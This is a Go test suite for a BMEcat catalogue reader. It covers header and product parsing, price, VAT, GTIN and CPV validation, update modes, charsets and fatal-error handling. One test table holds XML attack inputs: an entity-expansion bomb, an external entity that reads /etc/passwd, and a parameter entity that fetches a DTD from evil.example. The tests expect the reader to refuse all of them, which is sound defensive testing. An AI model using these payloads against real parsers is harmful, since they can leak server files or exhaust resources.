package bmecat

import (
	"bytes"
	"errors"
	"io"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"

	"kopit/internal/catalog"
)

// readAll reads every product; it fails the test on a fatal error.
func readAll(t *testing.T, src string, opts Options) (catalog.Header, []catalog.Item) {
	t.Helper()
	r, err := NewReader(strings.NewReader(src), opts)
	if err != nil {
		t.Fatalf("NewReader: %v", err)
	}
	var items []catalog.Item
	for it, err := range r.All() {
		if err != nil {
			t.Fatalf("after %d products: %v", len(items), err)
		}
		items = append(items, it)
	}
	return r.Header(), items
}

func codes(it catalog.Item) []catalog.Code {
	var cs []catalog.Code
	for _, p := range it.Problems {
		cs = append(cs, p.Code)
	}
	return cs
}

func date(s string) time.Time {
	d, err := time.Parse("2006-01-02", s)
	if err != nil {
		panic(err)
	}
	return d
}

func TestSample12(t *testing.T) {
	src, err := os.ReadFile("testdata/sample-1.2.xml")
	if err != nil {
		t.Fatal(err)
	}
	h, items := readAll(t, string(src), Options{})
	want := catalog.Header{Format: "BMEcat 1.2", Transaction: catalog.NewCatalog, CatalogID: "RV-IT-2026-HW",
		CatalogVersion: "001.000", CatalogName: "Rahmenvertrag Arbeitsplatz-Hardware 2026", Language: "deu",
		Currency: "EUR", SupplierID: "315642871", SupplierName: "Nordlicht IT-Systemhaus GmbH",
		AgreementID: "RV-2025-017", MimeRoot: "https://katalog.nordlicht-it.example/bilder/", Encoding: "UTF-8"}
	if h != want {
		t.Errorf("header\n got %+v\nwant %+v", h, want)
	}
	if len(items) != 4 {
		t.Fatalf("%d products, want 4", len(items))
	}
	nb := items[0]
	if nb.Line != 50 || nb.Mode != catalog.ModeNew || nb.SupplierPID != "NB-14-U5-16" || nb.GTIN != "4012345000016" ||
		nb.ManufacturerName != "Lenovo" || nb.ManufacturerPID != "21LK002DGE" || nb.Unit != "C62" || nb.CPV != "30213100-6" ||
		nb.ShortDescription != "Notebook 14 Zoll, Core Ultra 5, 16 GB RAM, 512 GB SSD" ||
		!strings.HasPrefix(nb.LongDescription, "Leichtes Business-Notebook") || !slices.Equal(nb.Images, []string{"nb-14-u5-16.jpg"}) {
		t.Errorf("notebook: %+v", nb)
	}
	if len(nb.Prices) != 3 {
		t.Fatalf("notebook prices: %+v", nb.Prices)
	}
	p, ok := nb.Price()
	wantP := catalog.Price{Type: "net_customer", AmountE4: 8999000, Currency: "EUR", VAT: 1900, LowerBoundE4: 10000,
		ValidFrom: date("2026-01-01"), ValidTo: date("2026-12-31")}
	if !ok || p != wantP {
		t.Errorf("price: %+v, want %+v", p, wantP)
	}
	if nb.Prices[2].LowerBoundE4 != 500000 || nb.Prices[2].AmountE4 != 8699000 {
		t.Errorf("tier price: %+v", nb.Prices[2])
	}
	if items[2].CPV != "30237000-9" {
		t.Errorf("CPV from SPECIAL_TREATMENT_CLASS: %q", items[2].CPV)
	}
	if p, _ := items[3].Price(); p.AmountE4 != 64900 {
		t.Errorf("four decimals: %d", p.AmountE4)
	}
	for _, it := range items {
		if it.Rejected() {
			t.Errorf("%s rejected: %v", it.SupplierPID, it.Problems)
		}
	}
}

func TestSample2005(t *testing.T) {
	src, err := os.ReadFile("testdata/sample-2005.xml")
	if err != nil {
		t.Fatal(err)
	}
	h, items := readAll(t, string(src), Options{})
	if h.Format != "BMEcat 2005" || h.Transaction != catalog.UpdateProducts || h.PrevVersion != "002.000" ||
		h.Language != "deu" || h.SupplierID != "4398765000004" || h.AgreementID != "RV-2025-021" ||
		h.SupplierName != "Südwest Büro- und Datentechnik AG" {
		t.Errorf("header %+v", h)
	}
	if len(items) != 3 {
		t.Fatalf("%d products, want 3", len(items))
	}
	tab := items[0]
	if tab.Mode != catalog.ModeNew || tab.ShortDescription != "Tablet 11 Zoll, 128 GB, LTE" || tab.GTIN != "4012345000054" ||
		tab.CPV != "30213200-7" || tab.ManufacturerPID != "SM-X526BZAAEEB" ||
		tab.LongDescription != "Robustes Tablet mit 11-Zoll-Bildschirm, 128 GB Speicher und LTE-Modem;\nmit Schutzhülle und Eingabestift." ||
		!slices.Equal(tab.Images, []string{"https://pim.suedwest.example/media/sw-tab-11-128.jpg"}) {
		t.Errorf("tablet: %+v", tab)
	}
	if len(tab.Prices) != 1 || tab.Prices[0].VAT != 1900 || tab.Prices[0].AmountE4 != 5190000 ||
		!tab.Prices[0].ValidTo.Equal(date("2027-02-28")) {
		t.Errorf("tablet prices (gros_list skipped, TAX_DETAILS read): %+v", tab.Prices)
	}
	if items[1].Mode != catalog.ModeUpdate || items[1].Rejected() {
		t.Errorf("update: %+v", items[1])
	}
	if items[2].Mode != catalog.ModeDelete || items[2].Rejected() || items[2].SupplierPID != "SW-MAUS-PS2" {
		t.Errorf("delete: %+v", items[2])
	}
}

// doc builds a one-transaction catalogue in version v from a product body
// written with placeholders for the element names that differ.
func doc(v, tx, products string) string {
	n := names12
	ns := "http://www.bmecat.org/bmecat/1.2/bmecat_new_catalog"
	gtinOpen, gtinClose := "<EAN>", "</EAN>"
	if v == "2005" {
		n, ns = names2005, "http://www.bmecat.org/bmecat/2005"
		gtinOpen, gtinClose = `<INTERNATIONAL_PID type="gtin">`, "</INTERNATIONAL_PID>"
	}
	body := strings.NewReplacer("{P}", n.product, "{ID}", n.id, "{D}", n.details, "{F}", n.features,
		"{O}", n.orderDetails, "{PD}", n.priceDetails, "{PR}", n.price, "{MPID}", n.manufacturerPID,
		"{GTIN}", gtinOpen, "{/GTIN}", gtinClose).Replace(products)
	return `<?xml version="1.0" encoding="UTF-8"?>
<BMECAT version="` + v + `" xmlns="` + ns + `">
<HEADER><CATALOG><LANGUAGE>deu</LANGUAGE><CATALOG_ID>T</CATALOG_ID><CATALOG_VERSION>1</CATALOG_VERSION><CURRENCY>EUR</CURRENCY></CATALOG>
<SUPPLIER><SUPPLIER_NAME>Test GmbH</SUPPLIER_NAME></SUPPLIER></HEADER>
<` + tx + `>
` + body + `
</` + tx + `>
</BMECAT>
`
}

// validProduct is a valid validProduct; the replacer swaps one part for a case.
const validProduct = `<{P}>
<{ID}>A-1</{ID}>
<{D}><DESCRIPTION_SHORT>Maus optisch</DESCRIPTION_SHORT>{GTIN}4012345000016{/GTIN}</{D}>
<{F}><REFERENCE_FEATURE_SYSTEM_NAME>CPV</REFERENCE_FEATURE_SYSTEM_NAME><REFERENCE_FEATURE_GROUP_ID>30237410-6</REFERENCE_FEATURE_GROUP_ID></{F}>
<{O}><ORDER_UNIT>C62</ORDER_UNIT></{O}>
<{PD}><{PR} price_type="net_customer"><PRICE_AMOUNT>12.50</PRICE_AMOUNT><TAX>0.19</TAX></{PR}></{PD}>
</{P}>`

func TestElements(t *testing.T) {
	cases := []struct {
		name     string
		old, new string // replaced in validProduct
		problems []catalog.Code
		check    func(catalog.Item) bool
	}{
		{"valid", "", "", nil, func(it catalog.Item) bool {
			p, _ := it.Price()
			return it.SupplierPID == "A-1" && it.GTIN == "4012345000016" && it.CPV == "30237410-6" && p.AmountE4 == 125000 && p.VAT == 1900
		}},
		{"id trimmed", "<{ID}>A-1</{ID}>", "<{ID}>\n  A-1  \n</{ID}>", nil, func(it catalog.Item) bool { return it.SupplierPID == "A-1" }},
		{"no id", "<{ID}>A-1</{ID}>", "", []catalog.Code{catalog.CodeMissing}, nil},
		{"no short description", "<DESCRIPTION_SHORT>Maus optisch</DESCRIPTION_SHORT>", "", []catalog.Code{catalog.CodeMissing}, nil},
		{"no unit", "<ORDER_UNIT>C62</ORDER_UNIT>", "", []catalog.Code{catalog.CodeMissing}, nil},
		{"no price", `<{PD}><{PR} price_type="net_customer"><PRICE_AMOUNT>12.50</PRICE_AMOUNT><TAX>0.19</TAX></{PR}></{PD}>`, "", []catalog.Code{catalog.CodePriceMissing}, nil},
		{"gross price only", `price_type="net_customer"`, `price_type="gros_list"`, []catalog.Code{catalog.CodePriceMissing}, nil},
		{"price without amount", "<PRICE_AMOUNT>12.50</PRICE_AMOUNT>", "", []catalog.Code{catalog.CodeMissing}, nil},
		{"price with comma", "12.50", "12,50", []catalog.Code{catalog.CodePriceFormat}, nil},
		{"negative price", "12.50", "-12.50", []catalog.Code{catalog.CodePriceFormat}, nil},
		{"price five decimals", "12.50", "12.50001", []catalog.Code{catalog.CodePriceFormat}, nil},
		{"price trailing zeros", "12.50", "12.5000000", nil, func(it catalog.Item) bool { return it.Prices[0].AmountE4 == 125000 }},
		{"price in dollars", "<TAX>", "<PRICE_CURRENCY>USD</PRICE_CURRENCY><TAX>", []catalog.Code{catalog.CodeCurrency}, nil},
		{"VAT as percentage", "<TAX>0.19</TAX>", "<TAX>19</TAX>", []catalog.Code{catalog.CodeVATPercent}, nil},
		{"VAT not a number", "<TAX>0.19</TAX>", "<TAX>neunzehn</TAX>", []catalog.Code{catalog.CodeVATFormat}, nil},
		{"VAT reduced", "<TAX>0.19</TAX>", "<TAX>0.07</TAX>", nil, func(it catalog.Item) bool { return it.Prices[0].VAT == 700 }},
		{"VAT missing", "<TAX>0.19</TAX>", "", nil, func(it catalog.Item) bool { return it.Prices[0].VAT == catalog.VATUnknown }},
		{"GTIN check digit", "4012345000016", "4012345000017", []catalog.Code{catalog.CodeGTINCheckDigit}, nil},
		{"GTIN letters", "4012345000016", "40123450000AB", []catalog.Code{catalog.CodeGTINFormat}, nil},
		{"GTIN-8", "4012345000016", "96385074", nil, func(it catalog.Item) bool { return it.GTIN == "96385074" }},
		{"GTIN-14", "4012345000016", "14012345000013", nil, func(it catalog.Item) bool { return it.GTIN == "14012345000013" }},
		{"CPV without check digit", "30237410-6", "30237410", nil, func(it catalog.Item) bool { return it.CPV == "30237410-6" }},
		{"CPV wrong format", "30237410-6", "3023741", []catalog.Code{catalog.CodeCPVFormat}, nil},
		{"CPV wrong check digit", "30237410-6", "30237410-5", []catalog.Code{catalog.CodeCPVUnknown}, nil},
		{"CPV unknown", "30237410-6", "99999999-9", []catalog.Code{catalog.CodeCPVUnknown}, nil},
		{"other classification ignored", "<REFERENCE_FEATURE_SYSTEM_NAME>CPV</REFERENCE_FEATURE_SYSTEM_NAME>",
			"<REFERENCE_FEATURE_SYSTEM_NAME>ECLASS-5.1</REFERENCE_FEATURE_SYSTEM_NAME>", nil, func(it catalog.Item) bool { return it.CPV == "" }},
		{"validity", "<{PR} ", `<DATETIME type="valid_start_date"><DATE>2026-02-01</DATE></DATETIME><DATETIME type="valid_end_date"><DATE>2026-06-30</DATE></DATETIME><{PR} `, nil,
			func(it catalog.Item) bool {
				return it.Prices[0].ValidFrom.Equal(date("2026-02-01")) && it.Prices[0].ValidTo.Equal(date("2026-06-30"))
			}},
		{"validity reversed", "<{PR} ", `<DATETIME type="valid_start_date"><DATE>2026-07-01</DATE></DATETIME><DATETIME type="valid_end_date"><DATE>2026-06-30</DATE></DATETIME><{PR} `,
			[]catalog.Code{catalog.CodeValidity}, nil},
		{"bad date", "<{PR} ", `<DATETIME type="valid_start_date"><DATE>31.02.2026</DATE></DATETIME><{PR} `, []catalog.Code{catalog.CodeDateFormat}, nil},
		{"lower bound", "<TAX>0.19</TAX>", "<TAX>0.19</TAX><LOWER_BOUND>abc</LOWER_BOUND>", []catalog.Code{catalog.CodeQuantityFormat}, nil},
		{"manufacturer", "</{D}>", "<{MPID}>X-9</{MPID}><MANUFACTURER_NAME>Cherry</MANUFACTURER_NAME></{D}>", nil,
			func(it catalog.Item) bool { return it.ManufacturerPID == "X-9" && it.ManufacturerName == "Cherry" }},
		{"image and data sheet", "</{P}>", `<MIME_INFO><MIME><MIME_TYPE>application/pdf</MIME_TYPE><MIME_SOURCE>a.pdf</MIME_SOURCE></MIME><MIME><MIME_TYPE>image/jpeg</MIME_TYPE><MIME_SOURCE>a.jpg</MIME_SOURCE><MIME_PURPOSE>normal</MIME_PURPOSE></MIME></MIME_INFO></{P}>`, nil,
			func(it catalog.Item) bool { return slices.Equal(it.Images, []string{"a.jpg"}) }},
		{"escaped HTML in long text", "</{D}>", "<DESCRIPTION_LONG>Zeile 1&lt;br&gt;Zeile &amp; 2</DESCRIPTION_LONG></{D}>", nil,
			func(it catalog.Item) bool { return it.LongDescription == "Zeile 1<br>Zeile & 2" }},
		{"CDATA", "Maus optisch", "<![CDATA[Maus <optisch>]]>", nil, func(it catalog.Item) bool { return it.ShortDescription == "Maus <optisch>" }},
		{"unknown elements ignored", "</{P}>", "<USER_DEFINED_EXTENSIONS><UDX.EDXF.X>1</UDX.EDXF.X></USER_DEFINED_EXTENSIONS></{P}>", nil, nil},
	}
	for _, v := range []string{"1.2", "2005"} {
		for _, c := range cases {
			t.Run(v+"/"+c.name, func(t *testing.T) {
				body := validProduct
				if c.old != "" {
					if !strings.Contains(body, c.old) {
						t.Fatalf("case does not apply: %q", c.old)
					}
					body = strings.Replace(body, c.old, c.new, 1)
				}
				_, items := readAll(t, doc(v, "T_NEW_CATALOG", body), Options{})
				if len(items) != 1 {
					t.Fatalf("%d products", len(items))
				}
				it := items[0]
				if got := codes(it); !slices.Equal(got, c.problems) {
					t.Errorf("problems %v, want %v (%+v)", got, c.problems, it.Problems)
				}
				for _, p := range it.Problems {
					if p.Line < 4 || p.Field == "" {
						t.Errorf("problem without line or field: %+v", p)
					}
					if msg := p.Message("de"); !strings.HasPrefix(msg, "Zeile ") {
						t.Errorf("message %q", msg)
					}
				}
				if c.check != nil && !c.check(it) {
					t.Errorf("item %+v", it)
				}
			})
		}
	}
}

func TestLines(t *testing.T) {
	body := validProduct + "\n" + strings.Replace(validProduct, "<TAX>0.19</TAX>", "\n<TAX>19</TAX>", 1)
	_, items := readAll(t, doc("2005", "T_NEW_CATALOG", body), Options{})
	if items[0].Line != 6 || items[1].Line != 13 {
		t.Errorf("product lines %d, %d; want 6, 13", items[0].Line, items[1].Line)
	}
	var vat catalog.Problem
	for _, p := range items[1].Problems {
		if p.Code == catalog.CodeVATPercent {
			vat = p
		}
	}
	if vat.Line != 19 || vat.Field != "TAX" || vat.Message("en") != "line 19, TAX: VAT rate 19: BMEcat expects a fraction such as 0.19, not a percentage." {
		t.Errorf("VAT problem %+v: %s", vat, vat.Message("en"))
	}
}

func TestDuplicates(t *testing.T) {
	other := strings.Replace(validProduct, "A-1", "B-2", 1)
	_, items := readAll(t, doc("1.2", "T_NEW_CATALOG", validProduct+"\n"+other+"\n"+validProduct), Options{})
	if len(items) != 3 {
		t.Fatalf("%d products", len(items))
	}
	if items[0].Rejected() || items[1].Rejected() {
		t.Errorf("first occurrences rejected")
	}
	got := items[2].Problems
	if len(got) != 1 || got[0].Code != catalog.CodeDuplicate || !slices.Equal(got[0].Args, []string{"A-1", "6"}) {
		t.Errorf("duplicate: %+v", got)
	}
}

func TestModes(t *testing.T) {
	cases := []struct {
		tx, attr string
		mode     catalog.Mode
		problems []catalog.Code
	}{
		{"T_NEW_CATALOG", "", catalog.ModeNew, nil},
		{"T_UPDATE_PRODUCTS", ` mode="new"`, catalog.ModeNew, nil},
		{"T_UPDATE_PRODUCTS", ` mode="update"`, catalog.ModeUpdate, nil},
		{"T_UPDATE_PRODUCTS", ` mode="delete"`, catalog.ModeDelete, nil},
		{"T_UPDATE_PRODUCTS", ``, "", []catalog.Code{catalog.CodeMode}},
		{"T_UPDATE_PRODUCTS", ` mode="replace"`, "", []catalog.Code{catalog.CodeMode}},
		{"T_UPDATE_PRICES", ``, catalog.ModeUpdate, nil},
	}
	for _, c := range cases {
		for _, v := range []string{"1.2", "2005"} {
			body := strings.Replace(validProduct, "<{P}>", "<{P}"+c.attr+">", 1)
			h, items := readAll(t, doc(v, c.tx, body), Options{})
			if h.Transaction != catalog.Transaction(c.tx) || items[0].Mode != c.mode || !slices.Equal(codes(items[0]), c.problems) {
				t.Errorf("%s %s%s: %s %q %v", v, c.tx, c.attr, h.Transaction, items[0].Mode, items[0].Problems)
			}
		}
	}
	// A prices-only update needs no texts; a deletion needs only the id.
	pricesOnly := `<{P}><{ID}>A-1</{ID}><{PD}><{PR} price_type="net_list"><PRICE_AMOUNT>9.99</PRICE_AMOUNT></{PR}></{PD}></{P}>
<{P}><{ID}>A-2</{ID}></{P}>`
	_, items := readAll(t, doc("2005", "T_UPDATE_PRICES", pricesOnly), Options{})
	if items[0].Rejected() || items[0].Prices[0].AmountE4 != 99900 || !slices.Equal(codes(items[1]), []catalog.Code{catalog.CodePriceMissing}) {
		t.Errorf("prices update: %+v", items)
	}
	_, items = readAll(t, doc("1.2", "T_UPDATE_PRODUCTS", `<{P} mode="delete"><{ID}>A-1</{ID}></{P}>`), Options{})
	if items[0].Rejected() {
		t.Errorf("delete: %+v", items[0].Problems)
	}
}

func TestLanguages(t *testing.T) {
	body := strings.Replace(validProduct, "<DESCRIPTION_SHORT>Maus optisch</DESCRIPTION_SHORT>",
		`<DESCRIPTION_SHORT lang="eng">Optical mouse</DESCRIPTION_SHORT><DESCRIPTION_SHORT lang="deu">Maus, optisch</DESCRIPTION_SHORT><DESCRIPTION_SHORT lang="fra">Souris</DESCRIPTION_SHORT>`, 1)
	_, items := readAll(t, doc("2005", "T_NEW_CATALOG", body), Options{})
	if items[0].ShortDescription != "Maus, optisch" {
		t.Errorf("short description %q, want the one in the catalogue's language", items[0].ShortDescription)
	}
}

func TestCharsets(t *testing.T) {
	for _, c := range []struct {
		label string
		cm    *charmap.Charmap
	}{{"ISO-8859-1", charmap.ISO8859_1}, {"windows-1252", charmap.Windows1252}, {"ISO-8859-15", charmap.ISO8859_15}} {
		src := strings.Replace(doc("1.2", "T_NEW_CATALOG", strings.Replace(validProduct, "Maus optisch", "Maus für Größe „M“", 1)),
			`encoding="UTF-8"`, `encoding="`+c.label+`"`, 1)
		if c.cm != charmap.Windows1252 {
			src = strings.NewReplacer("„", `"`, "“", `"`).Replace(src)
		}
		enc, err := c.cm.NewEncoder().String(src)
		if err != nil {
			t.Fatal(err)
		}
		h, items := readAll(t, enc, Options{})
		want := "Maus für Größe „M“"
		if c.cm != charmap.Windows1252 {
			want = `Maus für Größe "M"`
		}
		if items[0].ShortDescription != want || h.Encoding == "UTF-8" {
			t.Errorf("%s: %q (%s)", c.label, items[0].ShortDescription, h.Encoding)
		}
	}
}

func TestFatal(t *testing.T) {
	valid := doc("1.2", "T_NEW_CATALOG", validProduct)
	cases := []struct {
		name  string
		src   string
		opts  Options
		code  catalog.Code
		items int // products read before the error
	}{
		{"empty", "", Options{}, catalog.CodeEmpty, 0},
		{"not XML", "Artikelnummer;Preis\nA-1;12,50\n", Options{}, catalog.CodeMalformed, 0},
		{"JSON", `{"products": []}`, Options{}, catalog.CodeMalformed, 0},
		{"entity expansion", `<?xml version="1.0"?><!DOCTYPE BMECAT [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><BMECAT version="1.2">&b;</BMECAT>`, Options{}, catalog.CodeDoctype, 0},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE BMECAT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><BMECAT version="1.2">&xxe;</BMECAT>`, Options{}, catalog.CodeDoctype, 0},
		{"parameter entity", `<!DOCTYPE BMECAT SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><BMECAT version="1.2"/>`, Options{}, catalog.CodeDoctype, 0},
		{"Windows-1252 bytes declared as UTF-8", strings.Replace(valid, "Maus optisch", "Maus f\xfcr Gr\xf6\xdfe M", 1), Options{}, catalog.CodeMalformed, 0},
		{"undeclared entity", strings.Replace(valid, "Maus optisch", "Maus &lol;", 1), Options{}, catalog.CodeMalformed, 0},
		{"directive inside", strings.Replace(valid, "<HEADER>", "<!ENTITY x 'y'><HEADER>", 1), Options{}, catalog.CodeDoctype, 0},
		{"wrong root", `<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>`, Options{}, catalog.CodeNotBMEcat, 0},
		{"wrong namespace", strings.Replace(valid, "http://www.bmecat.org/bmecat/1.2/bmecat_new_catalog", "http://example.com/catalog", 1), Options{}, catalog.CodeNamespace, 0},
		{"namespace of the other version", strings.Replace(valid, "http://www.bmecat.org/bmecat/1.2/bmecat_new_catalog", "http://www.bmecat.org/bmecat/2005", 1), Options{}, catalog.CodeNamespace, 0},
		{"unknown version", strings.Replace(valid, `version="1.2"`, `version="3.0"`, 1), Options{}, catalog.CodeVersion, 0},
		{"ARTICLE in 2005", doc("2005", "T_NEW_CATALOG", strings.ReplaceAll(validProduct, "{P}", "ARTICLE")), Options{}, catalog.CodeVersionMixed, 0},
		{"unsupported transaction", doc("2005", "T_NEW_PRODUCTDATA", validProduct), Options{}, catalog.CodeTransaction, 0},
		{"no transaction", `<BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005"><HEADER/></BMECAT>`, Options{}, catalog.CodeNoTransaction, 0},
		{"charset", strings.Replace(valid, `encoding="UTF-8"`, `encoding="EBCDIC-CP-DE"`, 1), Options{}, catalog.CodeCharset, 0},
		{"too deep", doc("1.2", "T_NEW_CATALOG", strings.Replace(validProduct, "</{D}>", strings.Repeat("<X>", 40)+strings.Repeat("</X>", 40)+"</{D}>", 1)), Options{}, catalog.CodeTooDeep, 0},
		{"huge text", doc("1.2", "T_NEW_CATALOG", strings.Replace(validProduct, "Maus optisch", strings.Repeat("Maus ", 2000), 1)), Options{MaxTokenBytes: 4096}, catalog.CodeTokenTooLarge, 0},
		{"huge attribute", doc("1.2", "T_NEW_CATALOG", strings.Replace(validProduct, "<{P}>", `<{P} x="`+strings.Repeat("a", 10000)+`">`, 1)), Options{MaxTokenBytes: 4096}, catalog.CodeTokenTooLarge, 0},
		{"huge name", doc("1.2", "T_NEW_CATALOG", strings.Replace(validProduct, "<{P}>", `<{P}><`+strings.Repeat("A", 10000)+`/>`, 1)), Options{MaxTokenBytes: 4096}, catalog.CodeTokenTooLarge, 0},
		{"huge comment", doc("1.2", "T_NEW_CATALOG", "<!--"+strings.Repeat("-x", 10000)+"-->"+validProduct), Options{MaxTokenBytes: 4096}, catalog.CodeTokenTooLarge, 0},
		{"file too large", doc("1.2", "T_NEW_CATALOG", validProduct+strings.Replace(validProduct, "A-1", "B", 1)+strings.Replace(validProduct, "A-1", "C", 1)), Options{MaxBytes: 1200}, catalog.CodeTooLarge, 1},
		{"truncated", doc("1.2", "T_NEW_CATALOG", validProduct+validProduct)[:len(doc("1.2", "T_NEW_CATALOG", validProduct+validProduct))-200], Options{}, catalog.CodeMalformed, 1},
		{"mismatched tag", strings.Replace(doc("1.2", "T_NEW_CATALOG", validProduct+validProduct), "</ORDER_UNIT>", "</ORDER>", 2), Options{}, catalog.CodeMalformed, 0},
		{"second root", valid + "<BMECAT/>", Options{}, catalog.CodeMalformed, 1},
		{"text after root", valid + "trailing", Options{}, catalog.CodeMalformed, 1},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			src := strings.NewReplacer("{P}", "ARTICLE", "{ID}", "SUPPLIER_AID", "{D}", "ARTICLE_DETAILS").Replace(c.src)
			r, err := NewReader(strings.NewReader(src), c.opts)
			n := 0
			if err == nil {
				for _, err = range r.All() {
					if err != nil {
						break
					}
					n++
				}
			}
			var ce *catalog.Error
			if !errors.As(err, &ce) || ce.Code != c.code {
				t.Fatalf("error %v, want code %s", err, c.code)
			}
			if n != c.items {
				t.Errorf("%d products before the error, want %d", n, c.items)
			}
			if !errors.Is(err, &catalog.Error{Code: c.code}) {
				t.Errorf("errors.Is does not match by code")
			}
			if c.code != catalog.CodeEmpty && ce.Line == 0 {
				t.Errorf("no line in %v", ce)
			}
			if r != nil {
				if _, again := r.Next(); again != err {
					t.Errorf("error not sticky: %v", again)
				}
			}
		})
	}
}

func TestPlainDoctypeAccepted(t *testing.T) {
	src := strings.Replace(doc("1.2", "T_NEW_CATALOG", validProduct), "?>", "?>\n<!DOCTYPE BMECAT SYSTEM \"bmecat_new_catalog_1_2.dtd\">", 1)
	_, items := readAll(t, src, Options{})
	if len(items) != 1 || items[0].Rejected() {
		t.Errorf("%+v", items)
	}
}

func TestNoNamespace(t *testing.T) {
	for _, v := range []string{"1.2", "2005"} {
		src := strings.NewReplacer(` xmlns="http://www.bmecat.org/bmecat/1.2/bmecat_new_catalog"`, "", ` xmlns="http://www.bmecat.org/bmecat/2005"`, "").
			Replace(doc(v, "T_NEW_CATALOG", validProduct))
		h, items := readAll(t, src, Options{})
		if h.Format != "BMEcat "+v || len(items) != 1 || items[0].Rejected() {
			t.Errorf("%s: %+v %+v", v, h, items)
		}
	}
}

func TestPrefixedNamespace(t *testing.T) {
	src := doc("2005", "T_NEW_CATALOG", strings.Replace(validProduct, "</{P}>", `<x:EXTRA xmlns:x="urn:x"><DESCRIPTION_SHORT>nicht diese</DESCRIPTION_SHORT></x:EXTRA></{P}>`, 1))
	src = strings.Replace(src, ` xmlns="http://www.bmecat.org/bmecat/2005"`, ` xmlns:bme="http://www.bmecat.org/bmecat/2005"`, 1)
	src = regexp.MustCompile(`<(/?)([A-Z])`).ReplaceAllString(src, "<${1}bme:${2}")
	h, items := readAll(t, src, Options{})
	if h.CatalogID != "T" || len(items) != 1 || items[0].Rejected() || items[0].ShortDescription != "Maus optisch" {
		t.Errorf("%+v %+v", h, items)
	}
	// The same prefix bound to another namespace is refused.
	_, err := NewReader(strings.NewReader(strings.Replace(src, "http://www.bmecat.org/bmecat/2005", "urn:other", 1)), Options{})
	if !errors.Is(err, &catalog.Error{Code: catalog.CodeNamespace}) {
		t.Errorf("other namespace: %v", err)
	}
	_, err = NewReader(strings.NewReader(`<bme:BMECAT version="2005"><bme:HEADER/></bme:BMECAT>`), Options{})
	if !errors.Is(err, &catalog.Error{Code: catalog.CodeNamespace}) {
		t.Errorf("unbound prefix: %v", err)
	}
}

func TestOffsetAdvances(t *testing.T) {
	var buf bytes.Buffer
	if err := Generate(&buf, "1.2", 2000, 1); err != nil {
		t.Fatal(err)
	}
	size := int64(buf.Len())
	r, err := NewReader(&buf, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var last int64
	for _, err := range r.All() {
		if err != nil {
			t.Fatal(err)
		}
		if r.Offset() < last {
			t.Fatalf("offset went back")
		}
		last = r.Offset()
	}
	if r.Offset() != size {
		t.Errorf("offset %d at the end, file %d bytes", r.Offset(), size)
	}
}

var _ io.Reader = (*guard)(nil)
